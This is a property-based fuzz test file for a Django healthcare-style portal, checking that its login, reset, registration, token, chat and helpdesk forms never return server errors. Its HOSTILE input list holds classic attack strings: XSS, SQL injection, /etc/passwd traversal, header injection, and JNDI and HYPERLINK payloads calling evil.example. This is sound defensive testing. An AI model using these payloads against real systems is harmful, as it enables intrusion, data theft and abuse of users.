"""Property-based tests: random and hostile values posted to every form of the site never get
a server error (5xx), whatever the stage of the journey.

Each test builds one session at its stage, then Hypothesis posts many generated bodies to the
form. Throttle counts are cleared before each example, so the forms themselves are exercised
rather than the waiting page. Examples are random locally and fixed (derandomized) in CI, so a
CI run is repeatable; set FUZZ_EXAMPLES for a longer run, e.g. FUZZ_EXAMPLES=2000.
"""

import io
import os

import pytest
from django.contrib.auth.models import Permission
from django.core import mail
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from accounts.models import User
from tests.support import GOOD_PASSWORD, ask_reset, give_app, log_in, unverify
from tokens.testing import inventory_token
from verification.models import Conversation
from zorgportaal.models import Throttle

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("open_helpdesk")]

FUZZ = settings(
    max_examples=int(os.environ.get("FUZZ_EXAMPLES", "30")),
    deadline=None,
    derandomize=bool(os.environ.get("CI")),
    database=None if os.environ.get("CI") else settings.default.database,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)

HOSTILE = st.sampled_from(
    [
        "",
        " ",
        "\x00",
        "abc\x00def",
        "\r\n\r\nSet-Cookie: x=y",
        "a" * 5000,
        "<script>alert(1)</script>",
        "\"'><img src=x onerror=alert(1)>",
        "' OR '1'='1' --",
        "../../../../etc/passwd",
        "%00%0d%0a",
        '=HYPERLINK("http://evil.example")',
        "{{ 7*7 }}{% debug %}",
        "${jndi:ldap://evil.example/a}",
        "\u202eevil\u202c",
        "\u200b\u200c\u200d\ufeff",
        "😀" * 200,
        "İıẞß",
        "ａｎｎａ@ｄｅｌｉｎｄｅ.example",
        "anna.devries@delinde.example",
        "anna.devries\u200b@delinde.example",
        "-1",
        "0",
        "99999999999999999999999999",
        "1e309",
        "NaN",
        "//evil.example",
        "https://evil.example/",
        "javascript:alert(1)",
        "/\\evil.example",
        "tokens.appdevice/1",
        "tokens.appdevice/999999",
        "otp_static.staticdevice/1",
        "123456",
        "123 456",
        "１２３４５６",
    ]
)
TEXT = st.one_of(
    HOSTILE,
    st.text(st.characters(exclude_categories=("Cs",)), max_size=200),
    st.text(st.characters(exclude_categories=("Cs",)), min_size=1000, max_size=3000),
)
VALUE = st.one_of(TEXT, st.lists(TEXT, min_size=2, max_size=3))  # a field sent several times


def bodies(*fields: str):
    """A form body: the form's fields (each maybe missing, repeated) and maybe strange extras."""
    return st.fixed_dictionaries(
        {}, optional=dict.fromkeys(fields, VALUE) | {"csrfmiddlewaretoken": TEXT}
    ).flatmap(
        lambda known: st.dictionaries(TEXT.filter(lambda key: key), TEXT, max_size=3).map(
            lambda extra: {**extra, **known}
        )
    )


def no_server_error(response, data):
    assert response.status_code < 500, (response.status_code, data)


def post(client, url, data, **extra):
    Throttle.objects.all().delete()
    response = client.post(url, data, **extra)
    no_server_error(response, data)
    return response


# Anonymous forms


def test_login(person):
    @FUZZ
    @given(bodies("email", "password", "next"))
    def check(data):
        post(Client(), "/inloggen/", data)

    check()


def test_login_next_in_the_query(person):
    @FUZZ
    @given(TEXT)
    def check(next_url):
        Throttle.objects.all().delete()
        no_server_error(Client().get("/inloggen/", {"next": next_url}), next_url)

    check()


def test_password_reset_request(person):
    @FUZZ
    @given(bodies("email"))
    def check(data):
        post(Client(), "/wachtwoord-vergeten/", data)

    check()


def test_secret_links_in_the_url(person):
    @FUZZ
    @given(TEXT.filter(lambda t: "/" not in t), TEXT.filter(lambda t: "/" not in t))
    def check(first, second):
        from urllib.parse import quote

        Throttle.objects.all().delete()
        client = Client()
        for path in [
            f"/uitnodiging/{quote(first, safe='')}/",
            f"/wachtwoord-vergeten/{quote(first, safe='')}/{quote(second, safe='')}/",
        ]:
            no_server_error(client.get(path), path)

    check()


# Registration


def test_registration_password(invite):
    _invitation, link = invite(name="")  # the page asks the names too

    @FUZZ
    @given(bodies("first_name", "last_name", "password1", "password2"))
    def check(data):
        client = Client()
        client.get(link)
        post(client, "/registreren/wachtwoord/", data)
        User.objects.all().delete()
        from accounts.models import Invitation

        Invitation.objects.update(used_at=None, user=None)

    check()


def test_reset_confirm(person):
    client = Client()
    ask_reset(client, person.email)
    path = mail.outbox[-1].body.split("https://portaal.example.nl", 1)[1].split()[0]
    set_password = client.get(path)["Location"]

    @FUZZ
    @given(bodies("password1", "password2"))
    def check(data):
        response = post(client, set_password, data)
        if response.status_code == 302:  # a valid password was set: a fresh link for the next
            Throttle.objects.all().delete()  # more than 3 reset mails an hour here
            ask_reset(client, person.email)
            fresh = mail.outbox[-1].body.split("https://portaal.example.nl", 1)[1].split()[0]
            client.get(fresh)

    check()


def test_enrolment_app_and_token_and_upload(registered_client):
    inventory_token("1000000101", organisation=registered_client.user.organisation)
    registered_client.get("/registreren/app/")

    @FUZZ
    @given(bodies("code"), bodies("serial", "code"), st.binary(max_size=3000), TEXT)
    def check(app, token, csv_bytes, filename):
        post(registered_client, "/registreren/app/", app)
        post(registered_client, "/registreren/token/", token)
        upload = io.BytesIO(csv_bytes)
        upload.name = filename.replace("\x00", "")[:200] or "x.csv"
        post(registered_client, "/registreren/token/uploaden/", {"csv_file": upload})

    check()


# Logged in


def test_code_step(person):
    client = Client()
    client.post("/inloggen/", {"email": person.email, "password": GOOD_PASSWORD})

    @FUZZ
    @given(bodies("device", "code"))
    def check(data):
        post(client, "/inloggen/code/", data)
        assert client.get("/inloggen/code/").status_code in (200, 302)

    check()


def test_mijn_account_forms(person):
    client = Client()
    log_in(client, person)

    @FUZZ
    @given(
        bodies("old_password", "password1", "password2"),
        bodies("device", "code", "next"),
        st.binary(max_size=3000),
        TEXT,
    )
    def check(change, confirm, csv_bytes, persistent_id):
        post(client, "/mijn-account/wachtwoord/", change)
        person.set_password(GOOD_PASSWORD)  # a valid change must not lock the next example out
        person.save()
        post(client, "/mijn-account/bevestigen/", confirm)
        upload = io.BytesIO(csv_bytes)
        upload.name = "tokens.csv"
        post(client, "/mijn-account/azure-csv/", {"csv_file": upload})
        from urllib.parse import quote

        post(client, f"/mijn-account/verwijderen/{quote(persistent_id, safe='/')}/", {})
        if client.get("/portaal/").status_code != 200:  # the session ended: log in again
            log_in(client, person)

    check()


def test_chat(person):
    unverify(person)
    client = Client()
    log_in(client, person)
    client.post("/verificatie/chat/starten/")
    conversation = Conversation.objects.get(person=person)
    base = f"/verificatie/chat/{conversation.pk}/"

    @FUZZ
    @given(bodies("text"), TEXT, st.booleans())
    def check(data, after, fetch):
        headers = {"HTTP_X_REQUESTED_WITH": "fetch"} if fetch else {}
        post(client, base + "bericht/", data, **headers)
        conversation.messages.all().delete()  # stay under the chat's rate limit
        no_server_error(client.get(base + "berichten/", {"na": after}, **headers), after)

    check()


# Staff


def test_invite_admin(servicedesk, organisation, role):
    client = Client()
    log_in(client, give_app(servicedesk))

    @FUZZ
    @given(bodies("addresses", "organisation", "role", "language"), st.booleans())
    def check(data, real_choices):
        if real_choices:
            data = {**data, "organisation": str(organisation.pk), "role": str(role.pk)}
        post(client, "/admin/accounts/invitation/uitnodigen/", data)

    check()


def test_helpdesk_console(person, servicedesk):
    servicedesk.user_permissions.add(Permission.objects.get(codename="helpdesk"))
    servicedesk.served_organisations.add(person.organisation)
    client = Client()
    log_in(client, give_app(servicedesk))

    @FUZZ
    @given(bodies("email", "code"), bodies("text", "code"))
    def check(phone, chat):
        post(client, "/helpdesk/telefonisch/", phone)
        conversation = Conversation.objects.create(person=person, taken_by=servicedesk)
        base = f"/helpdesk/gesprek/{conversation.pk}/"
        for action in ("bericht/", "verifieren/", "resetten/"):
            post(client, base + action, chat)
        Conversation.objects.all().delete()

    check()


def test_audit_trail_filters_and_export(servicedesk):
    servicedesk.user_permissions.add(Permission.objects.get(codename="view_auditevent"))
    client = Client()
    log_in(client, give_app(servicedesk))
    names = st.sampled_from(
        [
            *("event", "outcome", "account", "actor", "actor_role", "q", "o", "p", "e"),
            *("created_at__year", "created_at__month", "created_at__day", "created_at__gte"),
        ]
    )

    @FUZZ
    @given(st.dictionaries(names | TEXT, TEXT, max_size=4))
    def check(query):
        for url in ["/admin/zorgportaal/auditevent/", "/admin/zorgportaal/auditevent/exporteren/"]:
            response = client.get(url, query)
            no_server_error(response, query)
            if response.streaming:
                b"".join(response.streaming_content)

    check()
